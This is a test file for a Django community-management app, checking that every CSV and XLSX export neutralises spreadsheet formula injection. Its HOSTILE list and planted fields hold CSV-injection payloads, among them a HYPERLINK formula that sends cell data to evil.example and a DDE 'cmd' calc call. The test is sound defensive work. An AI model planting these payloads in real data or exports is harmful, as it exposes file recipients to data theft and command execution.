"""Exports: one CSV/XLSX writer (core.exports), and no export lets typed text become a formula.

The unit tests pin the rule (what is neutralised, what stays a number). The route test loads the
demo community, types hostile text where people type (an owner's ticket title, a person's name,
a building, a memo, a meter number, a car brand, the community's name) and downloads every
export route — pages and API alike: no cell of any file can run as a formula. The inventory test
makes the next export go through ``core.exports`` too.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from sunlit.core import exports

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


# --- the rule -------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_a_quote_in_csv(text):
    assert exports.csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, "-12.50", "+8", "-0.5", "12", "",
                                   "正常文字", "a=b", "1-1-101"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert exports.csv_cell(value) == value


def test_csv_has_the_bom_once_and_neutralises_every_row():
    text = exports.csv_text([["标题", "金额"], [HOSTILE[0], Decimal("-1.00")], ["@x", "-2.00"]])
    assert text.startswith("\ufeff") and text.count("\ufeff") == 1
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows == [["标题", "金额"], ["'" + HOSTILE[0], "-1.00"], ["'@x", "-2.00"]]
    assert exports.csv_text([]) == "\ufeff"


def test_a_csv_response_streams():
    response = exports.csv_response("x.csv", ([n, "=1"] for n in range(3)))
    assert response.streaming and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response.getvalue().decode("utf-8") == "\ufeff0,'=1\r\n1,'=1\r\n2,'=1\r\n"


def test_xlsx_keeps_the_text_but_never_as_a_formula():
    from openpyxl import load_workbook

    writer = exports.XlsxWriter(title="t")
    sheet = writer.sheet("表", ["名称", "金额", "日期"], widths=[10, 8, 12], header_fill="FFF3C4")
    for text in HOSTILE:
        sheet.append([text, Decimal("-3.5"), dt.date(2026, 1, 2)])
    book = load_workbook(io.BytesIO(writer.to_bytes()))
    rows = list(book["表"].iter_rows(min_row=2))
    for text, (name, amount, day) in zip(HOSTILE, rows, strict=True):
        # (XML reads a bare CR back as LF)
        assert name.value == text.replace("\r", "\n") and name.data_type == "s"
        assert name.quotePrefix
        assert amount.value == -3.5 and amount.data_type == "n"
        assert day.is_date


# --- every export route ------------------------------------------------------------------------

#: every export: (how it is reached, the module that builds it)
EXPORT_ROUTES = {
    "board:board_csv": "board/views.py",
    "governance:not_voted_csv": "governance/proposals/views.py",
    "finance:ledger_csv": "finance/report/views.py",
    "finance:ledger_figure_csv": "finance/report/views.py",
    "finance:aging?format=csv": "finance/arrears/views.py",
    "finance:collection?format=csv": "finance/arrears/views.py",
    "finance:meter_import_template": "finance/charges/views.py",
    "registry:export": "registry/views/imports.py",
    "api: GET /finance/communities/{id}/reports/{month}/csv": "finance/report/api.py",
    "api: GET /finance/communities/{id}/meter-imports/template": "finance/charges/api.py",
}
SRC = Path(__file__).resolve().parents[2] / "src" / "sunlit"


def test_no_export_is_written_outside_core_exports():
    """csv.writer, openpyxl workbooks and CSV/XLSX content types only in core/exports.py; every
    module that sends an export is one of EXPORT_ROUTES (so its route is attacked below)."""
    forbidden = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|text/csv|spreadsheetml")
    senders = set()
    for path in SRC.rglob("*.py"):
        relative = path.relative_to(SRC).as_posix()
        if relative == "core/exports.py" or "/migrations/" in relative:
            continue
        text = path.read_text(encoding="utf-8")
        assert not forbidden.search(text), f"{relative} writes a spreadsheet itself"
        if re.search(r"exports\.(csv_response|xlsx_response)\(", text):
            senders.add(relative)
    assert senders == set(EXPORT_ROUTES.values())


def _cells_csv(response) -> list[str]:
    body = response.getvalue() if response.streaming else response.content
    text = body.decode("utf-8")
    assert text.startswith("\ufeff"), "Excel needs the BOM to read Chinese"
    return [cell for row in csv.reader(io.StringIO(text[1:])) for cell in row]


def _cells_xlsx(response) -> list:
    from openpyxl import load_workbook

    body = response.getvalue() if response.streaming else response.content
    book = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c for c in cells if c.data_type == "f"], "a formula in an export"
    return cells


def _assert_safe(route: str, response, planted: set[str]) -> None:
    assert response.status_code == 200, (route, response.status_code)
    kind = response["Content-Type"]
    if kind.startswith("text/csv"):
        cells = _cells_csv(response)
        live = [c for c in cells if exports.is_formula_like(c)]
        assert not live, f"{route}: live formula {live[:3]}"
        found = {p for p in planted for c in cells if p in c}
    else:
        assert kind == exports.XLSX_CONTENT_TYPE, (route, kind)
        cells = _cells_xlsx(response)
        for cell in cells:
            if isinstance(cell.value, str) and exports.is_formula_like(cell.value):
                assert cell.data_type == "s" and cell.quotePrefix, (route, cell.value)
        found = {p for p in planted for c in cells if isinstance(c.value, str) and p in c.value}
    assert found, f"{route}: none of the hostile text reached the file"


@pytest.fixture
def demo(db):
    from sunlit.demo import load_demo

    load_demo(units=100)


def test_every_export_route_neutralises_hostile_text(demo, client):
    from sunlit.board import services as board
    from sunlit.core.choices import Role
    from sunlit.core.models import Community, Person, User
    from sunlit.finance.books import ledger
    from sunlit.finance.models import Meter
    from sunlit.governance.models import Vote, VoteVoter
    from sunlit.registry.models import Building, Vehicle
    from sunlit.tickets import services as tickets
    from sunlit.tickets.models import Category

    community = Community.objects.get(code="mingqiang")

    def member(role):
        return User.objects.filter(memberships__community=community,
                                   memberships__role=role).order_by("pk").first()

    manager, finance, owner = member(Role.MANAGER), member(Role.FINANCE), member(Role.OWNER)
    planted: set[str] = set()

    # an owner's ticket title, on a board published for a past week
    week = timezone.localdate() - dt.timedelta(weeks=8)
    week -= dt.timedelta(days=week.weekday())
    raised = timezone.make_aware(dt.datetime.combine(week + dt.timedelta(days=2), dt.time(10)))
    category = Category.objects.in_community(community).filter(kind="complaint").first() \
        or Category.objects.in_community(community).first()
    building = Building.objects.in_community(community).order_by("pk").first()
    tickets.submit_ticket(community, actor=owner, kind=category.kind, category=category,
                          title=HOSTILE[0], description="门口", building=building,
                          location_text="北门", now=raised)
    draft = board.generate_board(community, week, actor=None, now=raised + dt.timedelta(days=9))
    board.cosign_board(draft, actor=member(Role.COMMITTEE))  # the demo's committee asks for it
    published = board.publish_board(draft, actor=None, now=raised + dt.timedelta(days=9))
    planted.add(HOSTILE[0])
    # a voter's name (masked, it still starts with "="), a building, a meter, a car, a memo
    vote = Vote.objects.in_community(community).exclude(electorate_sha256="").order_by("pk").first()
    voter = VoteVoter.objects.filter(vote_unit__vote=vote).select_related("person").first()
    Person.objects.filter(pk=voter.person_id).update(name="=HYPERLINK(1)")
    planted |= {"=HYPERLINK(1)", Person(name="=HYPERLINK(1)").masked_name}
    Building.objects.filter(pk=building.pk).update(name="@SUM(A1)")
    planted.add("@SUM(A1)")
    meter = Meter.objects.in_community(community).exclude(unit=None).order_by("pk").first()
    Meter.objects.filter(pk=meter.pk).update(number="-2+3")
    planted.add("-2+3")
    Vehicle.objects.filter(pk=Vehicle.objects.in_community(community).first().pk) \
        .update(brand="+cmd|' /C calc'!A0")
    planted.add("+cmd|' /C calc'!A0")
    today = timezone.localdate()
    memo = '=HYPERLINK("http://memo.example/")'
    ledger.post_manual_entry(community, actor=finance, date=today, memo=memo, lines=[
        ledger.Line("6402", debit=Decimal("1.00")), ledger.Line("1001", credit=Decimal("1.00"))])
    planted.add(memo)
    Community.objects.filter(pk=community.pk).update(name="\r=1+1")
    planted.add("\r=1+1")
    units = [u.label for u in building.units.select_related("building")]
    planted |= set(units)
    # the month closes and is published: the community's name and the memo are in it for good
    from sunlit.finance.books import calc
    from sunlit.finance.report import services as report_services

    after = timezone.make_aware(dt.datetime.combine(calc.add_months(today.replace(day=1), 1),
                                                    dt.time(9)))
    community.refresh_from_db()
    report_services.publish_report(community, today.replace(day=1), actor=manager, now=after)

    month = f"{today:%Y-%m}"
    requests = {
        "board:board_csv": (owner, reverse("board:board_csv", args=[published.pk])),
        "governance:not_voted_csv": (manager, reverse("governance:not_voted_csv", args=[vote.pk])),
        "finance:ledger_csv": (owner, reverse("finance:ledger_csv", args=[month])),
        "finance:ledger_figure_csv": (owner, reverse("finance:ledger_figure_csv",
                                                     args=[month, "cost-6402"])),
        "finance:aging?format=csv": (finance, reverse("finance:aging") + "?format=csv"),
        "finance:collection?format=csv": (finance, reverse("finance:collection") + "?format=csv"),
        "finance:meter_import_template": (finance, reverse("finance:meter_import_template")),
        "registry:export": (manager, reverse("registry:export")),
        "api: GET /finance/communities/{id}/reports/{month}/csv": (
            owner, f"/api/v1/finance/communities/{community.pk}/reports/{month}/csv"),
        "api: GET /finance/communities/{id}/meter-imports/template": (
            finance, f"/api/v1/finance/communities/{community.pk}/meter-imports/template"),
    }
    assert set(requests) == set(EXPORT_ROUTES)
    for route, (user, url) in requests.items():
        client.force_login(user)  # one demo community: the pages work on it
        _assert_safe(route, client.get(url), planted)
